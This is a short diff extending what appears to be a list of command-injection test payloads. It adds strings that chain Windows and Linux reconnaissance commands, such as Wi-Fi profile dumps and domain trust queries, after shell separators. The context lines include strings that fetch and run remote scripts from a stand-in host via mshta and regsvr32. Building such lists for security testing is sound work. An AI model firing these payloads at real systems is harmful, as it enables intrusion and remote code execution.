@@ -496,6 +496,9 @@ CMD_EXTRA_MORE = [
     "; lua -e 'os.execute(\"id\")'", "| osascript -e 'do shell script \"id\"'", "; gawk 'BEGIN{system(\"id\")}'",
     "& wmic process call create calc.exe", "& rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\"",
     "| mshta http://a.example/x.hta", "& regsvr32 /s /n /u /i:http://a.example/x.sct scrobj.dll",
+    # looking around a host or a domain (Windows, Linux), after a separator
+    "& netsh wlan show profiles", "| route print", "&& nltest /domain_trusts", "& schtasks /query /fo LIST /v",
+    "| gpresult /z", "& vssadmin list shadows", "; df -h", "| dmesg", "; lscpu", "&& lsblk -f", "; hostnamectl",
 ]
 
 PATH_TARGETS_MORE = [
